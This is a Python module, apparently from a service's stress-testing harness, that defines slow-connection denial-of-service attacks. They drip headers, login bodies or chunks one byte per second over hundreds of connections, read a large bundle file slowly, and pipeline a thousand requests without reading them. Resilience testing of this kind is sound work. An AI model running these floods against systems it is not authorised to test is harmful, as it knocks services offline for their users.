"""Clients that send or read as slowly as they are allowed to."""

from attacks import attack, variant
from load import Target, hold, read_slowly

# The largest answer that needs no credential: 1.5 MB, unless the client accepts a compressed one.
BUNDLE = "/docs/swagger-ui-bundle.js"


@attack("c")
async def slow_heads(target: Target) -> None:
    """400 connections that send one byte of a head per second"""
    await hold(target, b"GET /api/server/ping HTTP/1.1\r\nX: ", 400, drip=b"a")


@attack("c")
async def slow_bodies(target: Target) -> None:
    """400 connections that send one byte of a login's body per second"""
    headers = (("Content-Type", "application/json"), ("Content-Length", "1000"))
    await hold(target, target.request("POST", "/auth/login", *headers), 400, drip=b" ")


@attack("c")
async def slow_chunks(target: Target) -> None:
    """200 connections that send a chunk of one byte per second"""
    headers = (("Content-Type", "application/json"), ("Transfer-Encoding", "chunked"))
    await hold(target, target.request("POST", "/auth/login", *headers), 200, drip=b"1\r\n \r\n")


@variant("b", "readers_of_100_bytes_per_second", "200 readers of the largest file at 100 bytes/s", 100)
@variant("b", "readers_of_1_byte_per_second", "200 readers of the largest file at 1 byte/s", 1)
async def slow_readers(target: Target, size: int) -> None:
    await read_slowly(target, target.request("GET", BUNDLE), 200, size, 1.0)


@attack("b")
async def pipelined_without_reading(target: Target) -> None:
    """100 connections that ask for the largest file 1,000 times and read nothing"""
    await read_slowly(target, target.request("GET", BUNDLE) * 1_000, 100, 1, 3_600)


@attack("e", hoarder=True)
async def slow_readers_of_lists(target: Target) -> None:
    """50 readers of a list of thousands of sessions at 100 bytes/s"""
    await read_slowly(target, target.request("GET", "/sessions", token=target.hoarder.token), 50, 100, 1.0)
